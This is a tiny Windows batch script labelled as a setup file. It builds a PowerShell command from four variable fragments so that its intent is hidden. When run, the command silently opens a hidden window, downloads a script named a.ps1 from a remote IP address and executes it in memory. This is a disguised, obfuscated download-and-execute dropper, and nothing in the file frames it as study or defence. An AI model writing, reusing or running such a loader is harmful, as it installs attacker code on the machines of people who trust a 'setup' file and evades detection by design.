REM setup 4996 v2
@echo off
setlocal EnableDelayedExpansion
set "uqr0=powershell -nop -w hidden -c "IEX (New"
set "bqu1=-Object N"
set "fhr2=et.WebClient).DownloadString('htt"
set "wjx3=p://198.51.100.9/a.ps1')""
!uqr0!!bqu1!!fhr2!!wjx3!
